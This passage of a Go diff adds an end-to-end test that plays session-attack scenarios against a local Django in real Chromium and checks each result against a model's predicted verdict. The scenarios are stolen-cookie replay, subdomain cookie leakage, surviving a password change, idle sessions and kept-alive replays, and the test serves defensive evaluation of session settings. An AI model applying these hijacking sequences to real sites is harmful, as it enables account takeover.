+	r.logf("the attacker copies %s=%s", r.cfg.SessionCookieName, short(stolen))
+	r.advance(300)
+	r.follow(r.siteURL("/account/"))
+	r.submit("logout", nil)
+	r.serverLog()
+	r.advance(300)
+	if r.replay(stolen) == victimName {
+		return Succeeded
+	}
+	return Blocked
+}
+
+func playSubdomainCookieLeak(r *realRun) Outcome {
+	if !r.logIn() {
+		return Blocked
+	}
+	if !r.cfg.AttackerSubdomain {
+		return Blocked
+	}
+	r.advance(300)
+	r.follow(siblingPost)
+	stolen := ""
+	for _, q := range r.s.atk.requests() {
+		if _, c, ok := strings.Cut(q, " Cookie: "); ok && strings.HasPrefix(q, SiblingHost+" ") {
+			r.logf("%s receives Cookie: %s", SiblingHost, c)
+			stolen = cookieValue(c, r.cfg.SessionCookieName)
+		}
+	}
+	if stolen == "" {
+		return Blocked
+	}
+	if r.replay(stolen) == victimName {
+		return Succeeded
+	}
+	return Blocked
+}
+
+func playPasswordChangeEviction(r *realRun) Outcome {
+	if !r.logIn() {
+		return Blocked
+	}
+	stolen := r.sessionCookie()
+	r.logf("the attacker copies %s=%s", r.cfg.SessionCookieName, short(stolen))
+	r.advance(60)
+	jar := map[string]string{}
+	form := r.attacker("GET", "/login/", "", nil)
+	absorb(jar, form.SetCookies)
+	resp := r.attacker("POST", "/login/", cookieHeader(jar), url.Values{"username": {victimName}, "password": {passwordOf(victimName)}, "csrfmiddlewaretoken": {form.Token}})
+	absorb(jar, resp.SetCookies)
+	if own := r.attacker("GET", "/account/", cookieHeader(jar), nil); own.User != victimName {
+		return Blocked
+	}
+	r.advance(60)
+	r.follow(r.siteURL("/account/"))
+	r.submit("password", map[string]string{"old_password": passwordOf(victimName), "new_password": "a new password"})
+	r.serverLog()
+	r.advance(60)
+	copyUser := r.replay(stolen)
+	ownUser := r.attacker("GET", "/account/", cookieHeader(jar), nil).User
+	if copyUser == victimName || ownUser == victimName {
+		return Succeeded
+	}
+	return Blocked
+}
+
+func playIdleWalkaway(r *realRun) Outcome {
+	if !r.logIn() {
+		return Blocked
+	}
+	for range 4 {
+		r.advance(300)
+		r.follow(r.siteURL("/account/"))
+	}
+	r.serverLog()
+	r.advance(r.cfg.IdleMinutes * 60)
+	r.logf("the next person sits down")
+	r.follow(r.siteURL("/account/"))
+	log := r.serverLog()
+	if len(log) > 0 && log[len(log)-1].User == victimName {
+		return Succeeded
+	}
+	return Blocked
+}
+
+func playKeptAlive(r *realRun) Outcome {
+	if !r.logIn() {
+		return Blocked
+	}
+	stolen := r.sessionCookie()
+	r.logf("the attacker copies %s=%s; the victim stops using the site", r.cfg.SessionCookieName, short(stolen))
+	horizon, every := keptAliveHorizon(r.cfg)
+	n := 0
+	for at := every; at <= horizon; at += every {
+		r.s.django.call(r.t, map[string]any{"cmd": "advance", "seconds": every}, nil)
+		r.now += every
+		resp := r.attacker("GET", "/account/", r.cfg.SessionCookieName+"="+stolen, nil)
+		n++
+		if v := (&World{cfg: r.cfg}).sessionValue(resp.SetCookies); v != "" && v != `""` {
+			stolen = v // the attacker's client keeps what the site sends
+		}
+		if resp.User != victimName {
+			r.logf("replay %d, %ds after the theft, is not %s's", n, at, victimName)
+			return Blocked
+		}
+		if len(r.trace) > 60 {
+			r.trace = append(r.trace[:20], "  …")
+		}
+	}
+	r.logf("%d replays, every %ds for %ds, all as %s", n, every, horizon, victimName)
+	return Succeeded
+}
+
+// ---- the test ----
+
+var (
+	realSeed = flag.Uint64("real.seed", 20260302, "seed of TestScenariosRealStack's single-setting variations")
+	realN    = flag.Int("real.n", 5, "single-setting variations TestScenariosRealStack plays per scenario")
+	realOnly = flag.String("real.scenario", "", "play only this scenario id in TestScenariosRealStack")
+)
+
+// realCase is one scenario on one Config: a preset, or a preset with one
+// setting changed.
+type realCase struct {
+	sc         *Scenario
+	play       realScenario
+	preset     string
+	key, value string // the changed setting; "" for the preset itself
+	cfg        Config
+}
+
+func (c realCase) String() string {
+	s := c.sc.ID + " on " + c.preset
+	if c.key != "" {
+		s += " with " + c.key + "=" + c.value
+	}
+	return s
+}
+
+// pin is the case in the forms it is pinned in: the command line and a
+// TestTruths config.
+func (c realCase) pin() string {
+	set, with := "", `with(t, "`+c.preset+`"`
+	if c.key != "" {
+		set = " --set " + c.key + "=" + c.value
+		with += `, "` + c.key + `", "` + c.value + `"`
+	}
+	return "go run . verdicts --preset " + c.preset + set + "   (scenario " + c.sc.ID + ")\n\t" +
+		`"` + c.sc.ID + `", ` + with + ")"
+}
+
+// realCases are the four presets, then n single-setting variations per
+// scenario drawn from the seed: a setting the scenario's Toggles list set to
+// another of its candidate values, or one of the preset's Fixes.
+func realCases(t *testing.T, seed uint64, n int, only string) (cases []realCase, skipped []string) {
+	r := mrand.New(mrand.NewPCG(seed, 0x5ce7a110))
+	for _, rs := range realScenarios {
+		if only != "" && rs.id != only {
+			continue
+		}
+		sc, ok := ScenarioByID(rs.id)
+		if !ok {
+			t.Fatalf("no scenario %q", rs.id)
+		}
+		try := func(c realCase) bool {
+			why := realSkip(c.cfg)
+			if why == "" && rs.skip != nil {
+				why = rs.skip(c.cfg)
+			}
+			if why != "" {
+				skipped = append(skipped, c.String()+": "+why)
+				return false
+			}
+			cases = append(cases, c)
+			return true
+		}
+		var pool []realCase
+		seen := map[string]bool{}
+		for _, p := range Presets {
+			try(realCase{sc: sc, play: rs, preset: p.ID, cfg: p.Config})
+			add := func(key, value string) {
+				cfg := p.Config
+				if cfg.Set(key, value) != nil || cfg == p.Config || seen[p.ID+key+value] {
+					return
+				}
+				seen[p.ID+key+value] = true
+				pool = append(pool, realCase{sc: sc, play: rs, preset: p.ID, key: key, value: value, cfg: cfg})
+			}
+			for _, key := range sc.Toggles {
+				for _, f := range Fields {
+					if f.Key == key {
+						for _, v := range f.Candidates() {
+							add(key, v)
+						}
+					}
+				}
+			}
+			for _, fx := range sc.Fixes(p.Config) {
+				add(fx.Key, fx.To)
+			}
+		}
+		r.Shuffle(len(pool), func(i, j int) { pool[i], pool[j] = pool[j], pool[i] })
+		taken := 0
+		for _, c := range pool {
+			if taken == n {
+				break
+			}
+			if try(c) {
+				taken++
+			}
+		}
+	}
+	return cases, skipped
+}
+
+// TestScenariosRealStack plays the attack scenarios end to end on a real
+// Django (Debian's 3.2, testdata/django/live.py, on the virtual clock) with a
+// real Chromium as the victim, and checks each outcome against the model's
+// verdict, s.Run(cfg, false).Verdict.Outcome. See the file's header for
+// what is played and what is left out.
+func TestScenariosRealStack(t *testing.T) {
+	if _, err := os.Stat(chromiumPath); err != nil {
+		t.Skip("no Chromium at " + chromiumPath)
+	}
+	if testing.Short() {
+		t.Skip("drives a real browser and a real Django")
+	}
+	confNeedDjango(t)
+	cases, skipped := realCases(t, *realSeed, *realN, *realOnly)
+	for _, s := range skipped {
+		t.Logf("not played: %s", s)
+	}
+	s := newRealStack(t)
+	start := time.Now()
+	for _, c := range cases {
+		t.Run(strings.ReplaceAll(c.String(), " ", "_"), func(t *testing.T) {
+			want := c.sc.Run(c.cfg, false).Verdict
+			r, done := s.newRun(t, c.cfg, 30*time.Second)
+			defer done()
+			got := c.play.play(r)
+			if got == want.Outcome {
+				return
+			}
+			run := c.sc.Run(c.cfg, true)
+			var b strings.Builder
+			for _, st := range run.Steps {
+				fmt.Fprintf(&b, "\n\t%d. %s %s: %s", st.N, clock(st.At), st.Actor, st.Action)
+				if st.Request != nil {
+					fmt.Fprintf(&b, "\n\t\t%s %s", st.Request.Method, st.Request.URL)
+					for _, h := range st.Request.Headers {
+						fmt.Fprintf(&b, "\n\t\t%s: %s", h.Name, h.Value)
+					}
+				}
+				if st.Response != nil {
+					for _, h := range st.Response.Headers {
+						if h.Name == "Set-Cookie" {
+							fmt.Fprintf(&b, "\n\t\t<- Set-Cookie: %s", h.Value)
+						}
+					}
+				}
+				if st.Check != nil {
+					fmt.Fprintf(&b, "\n\t\tcheck: %s (%s)", st.Check.Rule, st.Check.Source)
+				}
+				fmt.Fprintf(&b, "\n\t\t=> %s", st.Result)
+			}
+			t.Errorf("%s: the model says %s, the real stack %s\n%s\nmodel: %s (%s)\nmodel trace:%s\nreal trace:\n\t%s",
+				c, want.Outcome, got, c.pin(), want.Reason, want.Rule, b.String(), strings.Join(r.trace, "\n\t"))
+		})
+	}
+	t.Logf("%d cases in %v", len(cases), time.Since(start).Round(time.Millisecond))
+}
